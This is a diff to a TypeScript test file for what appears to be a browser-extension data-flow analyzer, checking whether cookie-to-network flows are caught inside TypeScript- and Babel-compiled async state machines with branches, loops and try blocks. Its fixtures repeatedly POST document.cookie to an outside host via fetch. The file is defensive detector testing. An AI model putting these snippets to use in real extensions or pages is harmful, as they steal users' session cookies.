@@ -30,6 +30,72 @@ const forms: Readonly<Record<string, string>> = {
 const sends = "((x) => { fetch('https://in.gather.dev/', { method: 'POST', body: x }) })";
 const logs = '((x) => { console.log(x) })';
 
+/** Machines with branches, loops and `try`, each with a twin that sends another value. */
+const jumping: Readonly<Record<string, Jumping>> = {
+  'the end of a branch, by TypeScript': {
+    machine: typescript(
+      `case 0: if (!navigator.onLine) return [3, 2]; return [4, document.cookie]; case 1: c = _a.sent(); ${sends}(c); _a.label = 2; case 2: return [2]`,
+    ),
+    isSent: true,
+  },
+  'the other branch, by TypeScript': {
+    machine: typescript(
+      `case 0: if (!navigator.onLine) return [3, 2]; return [4, document.cookie]; case 1: c = _a.sent(); return [3, 4]; case 2: return [4, 5]; case 3: c = _a.sent(); _a.label = 4; case 4: ${sends}(c); return [2]`,
+    ),
+    isSent: true,
+  },
+  'the other branch, where both are replaced': {
+    machine: typescript(
+      `case 0: c = document.cookie; if (!navigator.onLine) return [3, 2]; return [4, 7]; case 1: c = _a.sent(); return [3, 4]; case 2: return [4, 5]; case 3: c = _a.sent(); _a.label = 4; case 4: c = 5; ${sends}(c); return [2]`,
+    ),
+    isSent: false,
+  },
+  'another branch, in one expression': {
+    machine: typescript(
+      `case 0: return navigator.onLine ? (c = document.cookie, [4, c]) : [3, 2]; case 1: return ${sends}(_a.sent()), [3, 2]; case 2: return [2]`,
+    ),
+    isSent: true,
+  },
+  'what handles errors, by TypeScript': {
+    machine: typescript(
+      `case 0: _a.trys.push([0, 2, , 3]); return [4, document.cookie]; case 1: c = _a.sent(); ${sends}(c); return [3, 3]; case 2: _t = _a.sent(); console.log(_t); return [3, 3]; case 3: return [2]`,
+    ),
+    isSent: true,
+  },
+  'what handles errors, which are not the data': {
+    machine: typescript(
+      `case 0: _a.trys.push([0, 2, , 3]); return [4, document.cookie]; case 1: c = _a.sent(); return [3, 3]; case 2: _t = _a.sent(); ${sends}(_t); return [3, 3]; case 3: return [2]`,
+      'c, _t',
+    ),
+    isSent: false,
+  },
+  'what handles errors, by Babel': {
+    machine: babel(
+      `case 0: _c.p = 0; _c.n = 1; return document.cookie; case 1: c = _c.v; ${sends}(c); _c.n = 3; break; case 2: _c.p = 2; _t = _c.v; case 3: return _c.a(2)`,
+      '[[0, 2]]',
+    ),
+    isSent: true,
+  },
+  'the head of a loop, by Babel': {
+    machine: babel(
+      `case 0: if (!(l.length > 0)) { _c.n = 2; break; } ${sends}(c); _c.n = 1; return document.cookie; case 1: c = _c.v; _c.n = 0; break; case 2: return _c.a(2)`,
+    ),
+    isSent: true,
+  },
+  'the end, which comes before the data does': {
+    machine: babel(
+      `case 0: c = 5; if (l) { _c.n = 1; break; } return _c.a(2); case 1: ${sends}(c); _c.n = 2; return document.cookie; case 2: c = _c.v; return _c.a(2)`,
+    ),
+    isSent: false,
+  },
+  'one of several cases': {
+    machine: babel(
+      `case 0: _t = l; _c.n = _t === 'a' ? 1 : _t === 'b' ? 3 : 5; break; case 1: _c.n = 2; return 5; case 2: return _c.a(3, 6); case 3: _c.n = 4; return document.cookie; case 4: c = _c.v; return _c.a(3, 6); case 5: c = 7; case 6: ${sends}(c); return _c.a(2)`,
+    ),
+    isSent: true,
+  },
+};
+
 describe('compiled async functions', () => {
   for (const [compiler, code] of Object.entries(forms)) {
     it(`of ${compiler} are read as they were written`, () => {
@@ -66,4 +132,36 @@ describe('compiled async functions', () => {
     const list = `[1].reduce(this, function (p) { fetch('https://in.gather.dev/', { method: 'POST', body: document.cookie }); return [2, p] })`;
     assert.match(flowsBetween({ 'content.js': list }).join(), /cookies content\.js > network/);
   });
+
+  for (const [form, { machine, isSent }] of Object.entries(jumping)) {
+    it(`that jump to ${form} are read as they were written`, () => {
+      const flows = flowsBetween({ 'content.js': machine }).join();
+      assert.equal(/cookies content\.js > network/.test(flows), isSent, flows);
+    });
+  }
+
+  it('of endless depth and of jumps anywhere are left as they are', () => {
+    const states = Array.from(
+      { length: 5000 },
+      (_, at) => `case ${at}: if (x${at}) return [3, ${(at * 7919) % 5001}]; return [4, f(${at})];`,
+    );
+    const code = typescript(`${states.join(' ')} case 5000: ${sends}(document.cookie); return [2]`);
+    assert.match(flowsBetween({ 'content.js': code }).join(), /cookies content\.js > network/);
+    const nested = Array.from({ length: 5000 }, (_, at) => `case ${at}: if (x) return [3, 9000];`);
+    const deep = typescript(`${nested.join(' ')} case 9000: ${sends}(document.cookie); return [2]`);
+    assert.match(flowsBetween({ 'content.js': deep }).join(), /cookies content\.js > network/);
+  });
 });
+
+interface Jumping {
+  readonly machine: string;
+  readonly isSent: boolean;
+}
+
+function typescript(states: string, names = ''): string {
+  return `__awaiter(this, void 0, void 0, function () { var ${names || 'c'}; return __generator(this, function (_a) { switch (_a.label) { ${states} } }) })`;
+}
+
+function babel(states: string, tries = '[]'): string {
+  return `_asyncToGenerator(_regenerator().m(function _callee() { var c, _t; return _regenerator().w(function (_c) { while (1) switch (_c.p = _c.n) { ${states} } }, _callee, null, ${tries}) }))()`;
+}
